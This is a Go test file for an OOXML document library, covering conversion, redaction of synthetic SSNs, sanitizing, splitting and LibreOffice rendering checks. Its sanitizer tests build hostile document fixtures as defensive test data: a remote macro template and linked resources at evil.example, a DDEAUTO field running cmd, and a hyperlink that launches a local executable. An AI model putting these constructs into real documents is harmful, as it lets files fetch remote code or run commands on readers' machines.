package ooxml

import (
	"bytes"
	"fmt"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tackle-dev/tackle/media"
	"github.com/tackle-dev/tackle/media/internal/pack"
)

// same reports the parts of a result that are not the bytes that they were.
func changedParts(t testing.TB, before, after []byte) []string {
	t.Helper()
	a, b := members(t, before), members(t, after)
	var out []string
	for name, was := range a {
		if now, ok := b[name]; !ok {
			out = append(out, "-"+name)
		} else if !bytes.Equal(was, now) {
			out = append(out, name)
		}
	}
	for name := range b {
		if _, ok := a[name]; !ok {
			out = append(out, "+"+name)
		}
	}
	return out
}

func TestConvertDocuments(t *testing.T) {
	want := `# Annual report

Grace Hopper

# Introduction

This is **bold** and *italic* text with a [link](https://example.org/) and code ` + "`x := 1`" + `.

![A logo](rId21.png)

A logo

# Data

| Name | Qty | Price |
| --- | --- | --- |
| Apple | 3 | 1.20 |
| Pear | 5 | 2.40 |

1. first
2. second
   - nested

> Quoted text with SSN 123-45-6789.

Footnote here.[^1]

# Appendix

Last section.

[^1]: The note.
`
	if d := cmp.Diff(want, string(must(t, sample(t, "rep.docx"), "convert to=md").Media.Data)); d != "" {
		t.Error(d)
	}
	text := string(must(t, sample(t, "contract.docx"), "convert to=txt").Media.Data)
	for _, want := range []string{"Header: Confidential 111-22-3333\n\nEmployment contract\n\nThe employee with number 123-45-6789 starts on 2025-01-02.[comment 1]\n\nTracked: end. Footnote[1].\n",
		"\n\nSalary\n\ncell 0,0\tcell 0,1\tcell 0,2\ncell 1,0", "[1] Footnote secret 987-65-4321\n", "[comment 1] Bob, 2025-01-01: Comment with 222-33-4444\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in %.400s", want, text)
		}
	}
	page := string(must(t, sample(t, "rep.docx"), "convert to=html").Media.Data)
	if !strings.Contains(page, `<img src="data:image/png;base64,iVBOR`) || !strings.Contains(page, `alt="A logo"`) || !strings.Contains(page, "<tr><th>Name</th>") {
		t.Errorf("%.800s", page)
	}
	res := must(t, sample(t, "contract.docx"), "convert to=md")
	if d := cmp.Diff([]string{"Text that is deleted but tracked was left out: 1 piece."}, res.Warnings); d != "" {
		t.Error(d)
	}
}

func TestConvertShapesOfText(t *testing.T) {
	field := func(instr, shown string) string {
		return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + instr + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>` + wr(shown) + `<w:r><w:fldChar w:fldCharType="end"/></w:r>`
	}
	num := [3]string{"word/numbering.xml", "numbering", `<w:numbering ` + wNS + `><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="3"/><w:numFmt w:val="decimal"/></w:lvl><w:lvl w:ilvl="1"><w:numFmt w:val="bullet"/></w:lvl></w:abstractNum><w:num w:numId="7"><w:abstractNumId w:val="0"/></w:num></w:numbering>`}
	item := func(level, s string) string {
		return `<w:p><w:pPr><w:numPr><w:ilvl w:val="` + level + `"/><w:numId w:val="7"/></w:numPr></w:pPr>` + wr(s) + `</w:p>`
	}
	cell := func(pr, s string) string { return "<w:tc><w:tcPr>" + pr + "</w:tcPr>" + wp(wr(s)) + "</w:tc>" }
	for _, tt := range []struct{ name, body, want string }{
		{"fields", wp(wr("see ") + field(`HYPERLINK "https://a.example"`, "here") + field("PAGE", "4")), "see [here](https://a.example)4\n"},
		{"deleted and inserted", wp(wr("a") + `<w:del w:id="1"><w:r><w:delText>b</w:delText></w:r></w:del><w:ins w:id="2">` + wr("c") + `</w:ins>`), "ac\n"},
		{"hidden", wp(wr("a") + `<w:r><w:rPr><w:vanish/></w:rPr><w:t>b</w:t></w:r>`), "a\n"},
		{"signs", wp(`<w:r><w:t>a</w:t><w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t><w:noBreakHyphen/><w:t>d</w:t><w:sym w:char="F0B7"/></w:r>`), "a\tb\\\nc-d·\n"},
		{"outline", `<w:p><w:pPr><w:outlineLvl w:val="1"/></w:pPr>` + wr("Two") + `</w:p>`, "## Two\n"},
		{"lists", item("0", "three") + item("1", "in") + wp(wr("between")) + item("0", "four"), "3. three\n   - in\n\nbetween\n\n4. four\n"},
		{"merged cells", `<w:tbl><w:tr>` + cell(`<w:gridSpan w:val="2"/>`, "wide") + cell(`<w:vMerge w:val="restart"/>`, "high") + `</w:tr><w:tr>` + cell("", "a") + cell("", "b") + cell(`<w:vMerge/>`, "") + `</w:tr></w:tbl>`, "| wide | | high |\n| --- | --- | --- |\n| a | b | |\n"},
		{"content control", `<w:sdt><w:sdtContent>` + wp(`<w:sdt><w:sdtContent>`+wr("in")+`</w:sdtContent></w:sdt>`) + `</w:sdtContent></w:sdt>`, "in\n"},
		{"text box", wp(wr("a") + `<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>` + wp(wr("boxed")) + `</w:txbxContent></wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent>` + wp(wr("boxed")) + `</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>`), "a\n\n> **Text box:**\n>\n> boxed\n"},
		{"formula", wp(wr("is ") + `<m:oMath><m:r><m:t>E=m</m:t></m:r></m:oMath>`), "is E=m\n"},
		{"markup stands for itself", wp(wr("&lt;b&gt; *x* # `y`")), "\\<b\\> \\*x\\* # \\`y\\`\n"},
	} {
		if got := string(must(t, doc(t, tt.body, num), "convert to=md").Media.Data); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestConvertDecks(t *testing.T) {
	want := "# Slide 1\n\nHello title\n\nBody 123-45-6789\n\n> **Notes:**\n>\n> note 123-45-6789\n\n---\n\n# Slide 2\n\n| | Sales | Cost |\n| --- | --- | --- |\n| Q1 | 10 | 5 |\n| Q2 | 20 | 8 |\n| Q3 | 30 | 9 |\n\n---\n\n# Slide 3\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n![img/pic.png](image-3-1.png)\n"
	if d := cmp.Diff(want, string(must(t, sample(t, "gen.pptx"), "convert to=md").Media.Data)); d != "" {
		t.Error(d)
	}
	// The order is that of the deck and not that of the parts.
	res := must(t, *must(t, sample(t, "deck.pptx"), "slides reorder order=3,1,2,5,4").Media, "convert to=txt")
	var titles []string
	for _, m := range regexp.MustCompile(`Title of slide (\d)`).FindAllStringSubmatch(string(res.Media.Data), -1) {
		titles = append(titles, m[1])
	}
	if got := strings.Join(titles, ""); got != "31254" {
		t.Error(got)
	}
}

// What is written from Markdown reads back as the same Markdown.
func TestWriteDocuments(t *testing.T) {
	src := "# One\n\nText with **bold**, *italic*, ~~gone~~, `code` and a [link](https://a.example/?a=1&b=2).[^1]\n\n## Two\n\n3. three\n4. four\n   - inner\n     - deeper\n\n> quoted\n\n" +
		"```\nx := 1\n\ty\n```\n\n| A | B |\n| --- | --- |\n| 1 | a\\|b |\n| | <br>\n\nline\\\nbreak & more\n\n[^1]: The *note*.\n"
	src = strings.Replace(src, "| | <br>\n", "| | z |\n", 1)
	res := must(t, media.Payload{Data: []byte(src), Name: "a.md"}, "convert to=docx")
	if got := string(must(t, *res.Media, "convert to=md").Media.Data); got != src {
		t.Error(cmp.Diff(src, got))
	}
	page := must(t, media.Payload{Data: []byte(`<h1>T</h1><p>a</p><table><tr><td rowspan=2>x</td><td colspan=2>y</td></tr><tr><td>1</td><td>2</td></tr></table><img alt="dot" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="><script>x</script>`), Name: "a.html"}, "convert to=docx")
	if got := string(must(t, *page.Media, "convert to=md").Media.Data); got != "# T\n\na\n\n| x | y | |\n| --- | --- | --- |\n| | 1 | 2 |\n\n![dot](image1.png)\n" {
		t.Errorf("%q", got)
	}
	plain := must(t, media.Payload{Data: []byte("one\ntwo <b>\n"), Name: "a.txt"}, "convert to=docx")
	if got := string(must(t, *plain.Media, "convert to=txt").Media.Data); got != "one\n\ntwo <b>\n" {
		t.Errorf("%q", got)
	}
}

func TestBlankFiles(t *testing.T) {
	p := pipeline(t)
	for _, format := range []string{"docx", "pptx"} {
		in, err := p.Create(t.Context(), format)
		if err != nil {
			t.Fatal(err)
		}
		valid(t, "empty:"+format, in.Data)
		m := must(t, in, "extract metadata").Read.Data.(map[string]any)
		if format == "pptx" && m["slide_count"] != 1 || m["problem"] != nil {
			t.Errorf("%s: %v", format, m)
		}
	}
}

func TestMetadata(t *testing.T) {
	m := must(t, sample(t, "contract.docx"), "extract metadata").Read.Data.(map[string]any)
	for k, want := range map[string]any{"title": "Contract", "author": "Ada Lovelace", "tables": 1, "comments": 1, "footnotes": 1, "tracked_deletions": 1, "headings": []string{"# Employment contract", "# Salary"}} {
		if d := cmp.Diff(want, m[k]); d != "" {
			t.Errorf("%s: %s", k, d)
		}
	}
	m = must(t, sample(t, "deck.pptx"), "extract metadata").Read.Data.(map[string]any)
	if m["slide_count"] != 5 || !strings.Contains(fmt.Sprint(m["slides"]), "{Title of slide 3 false [PlaceHolder 1 PlaceHolder 2 Logo]}") || !strings.Contains(fmt.Sprint(m["layouts"]), "Title Only") {
		t.Errorf("%v", m)
	}
}

func TestAssets(t *testing.T) {
	res := must(t, sample(t, "gen.pptx"), "extract assets")
	if len(res.List) != 2 || res.List[0].Name != "image-3-1.png" || res.List[0].MIME != "image/png" || !strings.HasSuffix(res.List[1].Name, ".xlsx") {
		t.Errorf("%v", res.List)
	}
	if res = must(t, sample(t, "gen.pptx"), "extract assets types=image format=jpeg"); len(res.List) != 1 || res.List[0].MIME != "image/jpeg" {
		t.Errorf("%v", res.List)
	}
	if _, err := run(t, sample(t, "contract.docx"), "extract assets"); err == nil || !strings.Contains(err.Error(), "holds no embedded files") {
		t.Error(err)
	}
}

func TestDiffAndChunkReadTheWords(t *testing.T) {
	b := *must(t, sample(t, "rep.docx"), `update_text anchor="Last section" replace="Final section"`).Media
	b.Name = "new.docx"
	res := must(t, sample(t, "rep.docx"), `diff with=@"new.docx"`, b)
	if !strings.Contains(res.Read.Text, "\n-Last section.\n+Final section.\n") {
		t.Error(res.Read.Text)
	}
	if res = must(t, sample(t, "rep.docx"), "chunk by=paragraph"); !strings.Contains(fmt.Sprint(res.Read.Data), "Quoted text with SSN") {
		t.Error(res.Read.Data)
	}
}

func TestUpdateText(t *testing.T) {
	for _, tt := range []struct{ in, do, want, warn string }{
		{wp(wr("one ") + `<w:r><w:rPr><w:b/></w:rPr><w:t>two</w:t></w:r>` + wr(" three")), `update_text anchor="e two th" replace="$1 & "`, wp(wr("on$1 &amp; ") + `<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve"></w:t></w:r>` + wr("ree")), ""},
		{wp(wr("x")) + wp(wr("x x")), `update_text anchor=x replace=y`, wp(wr("y")) + wp(wr("x x")), "The text stands there 3 times; only the first, in word/document.xml, was replaced."},
		{wp(wr("a b")), `update_text anchor=" b" replace="\nc"`, wp(`<w:r><w:t xml:space="preserve">a</w:t><w:br/><w:t xml:space="preserve">c</w:t></w:r>`), ""},
		{wp(`<w:del w:id="1"><w:r><w:delText>x</w:delText></w:r></w:del>` + wr("x")), `update_text anchor=x replace=""`, wp(`<w:del w:id="1"><w:r><w:delText>x</w:delText></w:r></w:del>` + wr("")), ""},
	} {
		res := must(t, doc(t, tt.in), tt.do)
		got := string(members(t, res.Media.Data)["word/document.xml"])
		if !strings.Contains(got, "<w:body>"+tt.want+"</w:body>") || strings.Join(res.Warnings, "") != tt.warn {
			t.Errorf("%s\n got %s %v\nwant %s", tt.do, got[strings.Index(got, "<w:body>"):], res.Warnings, tt.want)
		}
	}
	in := sample(t, "deck.pptx")
	res := must(t, in, `update_text anchor="slide 3" replace="the\nthird"`)
	if d := cmp.Diff([]string{"ppt/slides/slide3.xml"}, changedParts(t, in.Data, res.Media.Data)); d != "" {
		t.Error(d)
	}
	if got := string(must(t, *res.Media, "convert to=txt").Media.Data); !strings.Contains(got, "Title of the\nthird\n") {
		t.Error(got)
	}
	for do, want := range map[string]string{
		`update_text anchor="no such words" replace=y`: `the text "no such words" does not stand in deck.pptx`,
		`update_text anchor="slide 3\nBody" replace=y`: `goes over the end of a paragraph`,
	} {
		if _, err := run(t, in, do); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", do, err)
		}
	}
}

func TestNormalize(t *testing.T) {
	res := must(t, doc(t, wp(wr("cafe\u0301 ")+wr("x \u00a0"))+wp(wr("a ")+`<w:r><w:tab/></w:r>`)), "normalize")
	want := wp(wr("café ")+wr("x")) + wp(wr("a ")+`<w:r><w:tab/></w:r>`)
	if got := string(members(t, res.Media.Data)["word/document.xml"]); !strings.Contains(got, want) || res.Counts.Modified != 2 {
		t.Error(got)
	}
}

func TestSplitDocument(t *testing.T) {
	res := must(t, sample(t, "rep.docx"), "split by=section")
	var got []string
	for _, p := range res.List {
		text := string(must(t, p, "convert to=txt").Media.Data)
		has := ""
		for name := range members(t, p.Data) {
			if strings.Contains(name, "media/") {
				has = " with picture"
			}
		}
		first, _, _ := strings.Cut(text, "\n")
		got = append(got, p.Name+": "+first+has)
		if strings.Contains(text, "The note") != strings.Contains(text, "Footnote here") {
			t.Errorf("%s has a note of another part: %s", p.Name, text)
		}
	}
	want := []string{"rep.part1.docx: Annual report", "rep.part2.docx: Introduction with picture", "rep.part3.docx: Data", "rep.part4.docx: Appendix"}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
	if res = must(t, sample(t, "rep.docx"), "split by=section ranges='[[1,2],[3,4]]'"); len(res.List) != 2 {
		t.Error(len(res.List))
	}
	for do, want := range map[string]string{
		"split":                  "rep.docx has no pages until a program lays it out. Use: split by=section",
		"select pages=1":         "select works on pptx here, and rep.docx is docx.",
		`merge with=@"rep.docx"`: "merge works on pptx here, and rep.docx is docx.",
		`append text=x`:          "append works on",
	} {
		_, err := run(t, sample(t, "rep.docx"), do, sample(t, "rep.docx"))
		var e *media.Error
		if !asError(err, &e) || e.Code != media.UnsupportedOp || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", do, err)
		}
	}
	if _, err := run(t, doc(t, wp(wr("x"))), "split by=section"); err == nil || !strings.Contains(err.Error(), "no heading of the first level") {
		t.Error(err)
	}
}

func asError(err error, e **media.Error) bool {
	x, ok := err.(*media.Error)
	*e = x
	return ok
}

// A signed file is read, and changed only where the step says that the signature may go.
func TestSigned(t *testing.T) {
	in := doc(t, wp(wr("Jane")), [3]string{"_xmlsignatures/origin.sigs", "", ""}, [3]string{"_xmlsignatures/sig1.xml", "", "<Signature/>"})
	all := members(t, in.Data)
	var list []pack.Member
	for name, b := range all {
		s := string(b)
		switch name {
		case "_rels/.rels":
			s = strings.Replace(s, "</Relationships>", `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin" Target="_xmlsignatures/origin.sigs"/></Relationships>`, 1)
		case typesPart:
			s = strings.Replace(s, "<Default ", `<Default Extension="sigs" ContentType="application/vnd.openxmlformats-package.digital-signature-origin"/><Default `, 1)
		}
		list = append(list, pack.Member{Name: name, Data: []byte(s)})
	}
	data, err := pack.Create(list...)
	if err != nil {
		t.Fatal(err)
	}
	in.Data = data
	if got := string(must(t, in, "convert to=txt").Media.Data); got != "Jane\n" {
		t.Error(got)
	}
	if m := must(t, in, "extract metadata").Read.Data.(map[string]any); m["signed"] != true {
		t.Error(m)
	}
	for _, do := range []string{"redact match=Jane", "sanitize", "normalize", `update_text anchor=Jane replace=x`} {
		if _, err := run(t, in, do); err == nil || !strings.Contains(err.Error(), "is signed, and any change ends its signature") || !strings.Contains(err.Error(), "unsign=true") {
			t.Errorf("%s: %v", do, err)
		}
	}
	res := must(t, in, "redact match=Jane unsign=true")
	for name := range members(t, res.Media.Data) {
		if strings.HasPrefix(name, "_xmlsignatures") {
			t.Error(name)
		}
	}
	if !strings.Contains(strings.Join(res.Warnings, ""), "The signature of the file was removed.") {
		t.Error(res.Warnings)
	}
}

func TestSanitize(t *testing.T) {
	ext := func(id, kind, target string) [3]string {
		return [3]string{"", "", `<Relationship Id="` + id + `" Type="` + relBase + kind + `" Target="` + target + `" TargetMode="External"/>`}
	}
	field := func(instr string) string {
		return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + instr + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>` + wr("shown") + `<w:r><w:fldChar w:fldCharType="end"/></w:r>`
	}
	for _, tt := range []struct {
		name  string
		in    media.Payload
		gone  []string
		stays []string
		warn  string
	}{
		{"macros", doc(t, wp(wr("x")), [3]string{"word/vbaProject.bin", "vbaProject", "m"}), []string{"vbaProject"}, []string{">x<"}, "Removed 1 × macros."},
		{"remote template", doc(t, wp(wr("x")), [3]string{"word/settings.xml", "settings", `<w:settings ` + wNS + `><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`}, [3]string{"word/_rels/settings.xml.rels", "", relsXML(`<Relationship Id="rId1" Type="` + relBase + `attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`)}), []string{"evil", "attachedTemplate"}, []string{"w:zoom"}, "Removed 1 × remote template."},
		{"object, its picture stays", doc(t, wp(`<w:r><w:object><v:shape><v:imagedata r:id="rId11"/></v:shape><o:OLEObject ProgID="Package" r:id="rId10"/></w:object></w:r>`), [3]string{"word/embeddings/o.bin", "oleObject", "x"}, [3]string{"word/media/i.png", "image", "\x89PNG\r\n\x1a\n"}), []string{"OLEObject", "o.bin"}, []string{"v:imagedata", "i.png"}, "Removed 1 × embedded object."},
		{"control", doc(t, wp(`<w:r><w:control r:id="rId10" w:name="c"/></w:r>`), [3]string{"word/activeX/activeX1.xml", "control", "<ax/>"}), []string{"activeX", "w:control"}, nil, "Removed 1 × control."},
		{"linked picture", doc(t, wp(`<w:r><w:drawing><a:blip r:link="rIdP"/></w:drawing></w:r>`), ext("rIdP", "image", "http://evil.example/p.png")), []string{"evil", "r:link"}, []string{"a:blip"}, "Removed 1 × remote reference."},
		{"links", doc(t, wp(`<w:hyperlink r:id="rIdA">`+wr("bad")+`</w:hyperlink><w:hyperlink r:id="rIdB">`+wr("good")+`</w:hyperlink>`), ext("rIdA", "hyperlink", "file:///c:/run.exe"), ext("rIdB", "hyperlink", "https://ok.example/")), []string{"run.exe", `r:id="rIdA"`}, []string{">bad<", "ok.example"}, "Removed 1 × link that starts a program."},
		{"DDE", doc(t, wp(field(`DDEAUTO c:\\\\cmd "/k"`)+field("PAGE"))), []string{"DDEAUTO"}, []string{"PAGE", ">shown<"}, "Removed 1 × field that acts."},
		{"included text", doc(t, wp(`<w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x "><w:r><w:t>kept</w:t></w:r></w:fldSimple>`)), []string{"evil", "fldSimple"}, []string{">kept<"}, "Removed 1 × field that acts."},
		{"custom XML", doc(t, `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a"/></w:sdtPr><w:sdtContent>`+wp(wr("x"))+`</w:sdtContent></w:sdt>`, [3]string{"customXml/item1.xml", "customXml", "<secret/>"}), []string{"secret", "dataBinding"}, []string{">x<"}, "Removed 1 × custom XML."},
		{"another file within", doc(t, wp(wr("x"))+`<w:altChunk r:id="rId10"/>`, [3]string{"word/afchunk.htm", "aFChunk", "<script>"}), []string{"altChunk", "script"}, nil, "Removed 1 × embedded file of another format."},
		{"characters", doc(t, wp(wr("a\u202eb\U000e0041c"))), []string{"\u202e", "\U000e0041"}, []string{">abc<"}, "Removed 2 × character that hides or reorders text."},
		{"a document within", doc(t, wp(wr("x")), [3]string{"word/embeddings/d.docx", "package", string(doc(t, wp(wr("y")), [3]string{"word/vbaProject.bin", "vbaProject", "m"}).Data)}), []string{"vbaProject"}, []string{">y<"}, "Removed 1 × part of an embedded file."},
		{"nothing", doc(t, wp(wr("x"))), nil, []string{">x<"}, "There was nothing to remove."},
	} {
		res := must(t, tt.in, "sanitize")
		var all strings.Builder
		for name, b := range members(t, res.Media.Data) {
			all.WriteString(name + "\n")
			if !strings.HasSuffix(name, typesPart) && !bytes.HasPrefix(b, []byte("PK")) {
				all.Write(b)
			}
		}
		for _, s := range tt.gone {
			if strings.Contains(all.String(), s) {
				t.Errorf("%s: %q is left", tt.name, s)
			}
		}
		for _, s := range tt.stays {
			if !strings.Contains(all.String(), s) {
				t.Errorf("%s: %q is gone", tt.name, s)
			}
		}
		if !strings.Contains(strings.Join(res.Warnings, "\n"), tt.warn) {
			t.Errorf("%s: %v", tt.name, res.Warnings)
		}
	}
}

func TestBadInput(t *testing.T) {
	raw := func(xml string) media.Payload {
		in := doc(t, wp(wr("x")))
		var list []pack.Member
		for name, b := range members(t, in.Data) {
			if name == "word/document.xml" {
				b = []byte(xml)
			}
			list = append(list, pack.Member{Name: name, Data: b})
		}
		data, err := pack.Create(list...)
		if err != nil {
			t.Fatal(err)
		}
		in.Data = data
		return in
	}
	for _, tt := range []struct{ name, xml, want string }{
		{"entities", `<!DOCTYPE x [<!ENTITY a "b">]><w:document ` + wNS + `><w:body><w:p/></w:body></w:document>`, "defines entities of its own"},
		{"depth", `<w:document ` + wNS + `>` + strings.Repeat("<w:sdt>", 300) + strings.Repeat("</w:sdt>", 300) + `</w:document>`, "nested too deep"},
		{"cut off", `<w:document ` + wNS + `><w:body>`, "ends within an element"},
		{"no body", `<w:document ` + wNS + `/>`, "has no body"},
		{"another root", `<x/>`, "neither a document nor a presentation"},
		{"not UTF-8", "<w:document " + wNS + ">\xff</w:document>", "is not UTF-8"},
	} {
		for _, do := range []string{"convert to=md", "redact match=x", "sanitize"} {
			if tt.name == "no body" && do != "convert to=md" {
				continue
			}
			if _, err := run(t, raw(tt.xml), do); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("%s, %s: %v", tt.name, do, err)
			}
		}
	}
	half := sample(t, "deck.pptx")
	half.Data = half.Data[:len(half.Data)/2]
	if _, err := run(t, half, "convert to=md"); err == nil {
		t.Error("half a file was read")
	}
}

// LibreOffice opens what is written, and shows what was not changed as before.
func TestLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("soffice is not installed: scripts/deps.sh installs it")
	}
	totext, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Skip("pdftotext is not installed: apt-get install poppler-utils")
	}
	dir := t.TempDir()
	p := pipeline(t)
	blank := func(format string) media.Payload {
		in, err := p.Create(t.Context(), format)
		if err != nil {
			t.Fatal(err)
		}
		return in
	}
	files := map[string]struct {
		in   media.Payload
		do   string
		with []media.Payload
		want []string
	}{
		"redacted.docx":  {in: sample(t, "contract.docx"), do: redactAll, want: []string{"The employee with number [SSN] starts on 2025-01-02.", "Confidential [SSN]", "Footnote secret [SSN]"}},
		"redacted2.pptx": {in: sample(t, "deck.pptx"), do: redactAll, want: []string{"Body text 3 with SSN [SSN]"}},
		"written.docx":   {in: media.Payload{Data: []byte("# Head\n\n1. one\n2. two\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\nnote[^1]\n\n[^1]: below\n"), Name: "a.md"}, do: "convert to=docx", want: []string{"Head", "1. one", "2. two", "below"}},
		"blank.pptx":     {in: blank("pptx"), do: `slides add title="Second & last"`, want: []string{"Second & last"}},
		"blank2.docx":    {in: blank("docx"), do: `normalize`},
		"merged.pptx":    {in: sample(t, "deck.pptx"), do: `merge with=@"gen.pptx"`, with: []media.Payload{sample(t, "gen.pptx")}, want: []string{"Title of slide 5", "Hello title"}},
		"cut.docx":       {in: sample(t, "rep.docx"), do: `sanitize`, want: []string{"Annual report", "nested"}},
		"chart.pptx":     {in: sample(t, "gen.pptx"), do: `slides update_chart slide=2 data='[["","A","B","C"],["left",1,2,3],["right",4,5,6]]'`, want: []string{"left", "right"}},
		"selected.pptx":  {in: sample(t, "deck.pptx"), do: `select pages=3,1,3`, want: []string{"Title of slide 3", "Title of slide 1"}},
	}
	args := []string{"-env:UserInstallation=file://" + dir + "/profile", "--headless", "--convert-to", "pdf", "--outdir", dir}
	for name, f := range files {
		if err := os.WriteFile(filepath.Join(dir, name), must(t, f.in, f.do, f.with...).Media.Data, 0o600); err != nil {
			t.Fatal(err)
		}
		args = append(args, filepath.Join(dir, name))
	}
	if out, err := exec.CommandContext(t.Context(), soffice, args...).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for name, f := range files {
		pdf := filepath.Join(dir, strings.TrimSuffix(name, filepath.Ext(name))+".pdf")
		out, err := exec.CommandContext(t.Context(), totext, "-layout", pdf, "-").Output()
		if err != nil {
			t.Errorf("%s: LibreOffice made no pages of it: %v", name, err)
			continue
		}
		for _, want := range f.want {
			if !strings.Contains(string(out), want) {
				t.Errorf("%s: no %q in\n%.1500s", name, want, out)
			}
		}
	}
}

// line is a line of a page: how far down it stands, and its words with their places across.
type line struct {
	down  float64
	words []string
}

// lines are the lines of a PDF in order.
func lines(t *testing.T, totext, pdf string) []line {
	t.Helper()
	out, err := exec.CommandContext(t.Context(), totext, "-bbox", pdf, "-").Output()
	if err != nil {
		t.Fatal(err)
	}
	at := map[float64]int{}
	var all []line
	page := 0.0
	word := regexp.MustCompile(`<word xMin="([^"]*)" yMin="([^"]*)" [^>]*>(.*)</word>`)
	for s := range strings.Lines(string(out)) {
		if strings.Contains(s, "<page ") {
			page += 10_000
		}
		if m := word.FindStringSubmatch(s); m != nil {
			y, err := strconv.ParseFloat(m[2], 64)
			if err != nil {
				t.Fatal(err)
			}
			y += page
			i, ok := at[y]
			if !ok {
				i, at[y] = len(all), len(all)
				all = append(all, line{down: y})
			}
			all[i].words = append(all[i].words, m[1]+" "+m[3])
		}
	}
	for _, l := range all {
		slices.Sort(l.words)
	}
	slices.SortFunc(all, func(a, b line) int { return int(a.down*1000) - int(b.down*1000) })
	return all
}

// What is not redacted stands on the page where it stood.
func TestLibreOfficeLayoutIsUnchanged(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("soffice is not installed: scripts/deps.sh installs it")
	}
	totext, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Skip("pdftotext is not installed: apt-get install poppler-utils")
	}
	dir := t.TempDir()
	args := []string{"-env:UserInstallation=file://" + dir + "/profile", "--headless", "--convert-to", "pdf", "--outdir", dir}
	put := func(name string, data []byte) {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
		args = append(args, filepath.Join(dir, name))
	}
	names := []string{"contract.docx", "deck.pptx", "rep.docx"}
	for _, name := range names {
		put("was-"+name, sample(t, name).Data)
		put("now-"+name, must(t, sample(t, name), `redact match=/[1-9]\d{2}-\d{2}-\d{4}/ replace="000-00-0000"`).Media.Data)
	}
	if out, err := exec.CommandContext(t.Context(), soffice, args...).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for _, name := range names {
		pdf := strings.TrimSuffix(name, filepath.Ext(name)) + ".pdf"
		was, now := lines(t, totext, filepath.Join(dir, "was-"+pdf)), lines(t, totext, filepath.Join(dir, "now-"+pdf))
		if len(was) != len(now) {
			t.Errorf("%s had %d lines and has %d", name, len(was), len(now))
			continue
		}
		same := 0
		for i, l := range was {
			if regexp.MustCompile(` \d{2,3}-|-\d{4}\b`).MatchString(strings.Join(l.words, "\n")) {
				continue
			}
			// A line whose italic number is gone may be a tenth of a point lower.
			if d := cmp.Diff(l.words, now[i].words); d != "" && len(l.words) > 1 || math.Abs(l.down-now[i].down) > 0.5 {
				t.Errorf("%s: at %v, now %v: %s", name, l.down, now[i].down, d)
			}
			same++
		}
		if same < 5 {
			t.Errorf("%s: only %d lines were compared", name, same)
		}
	}
}
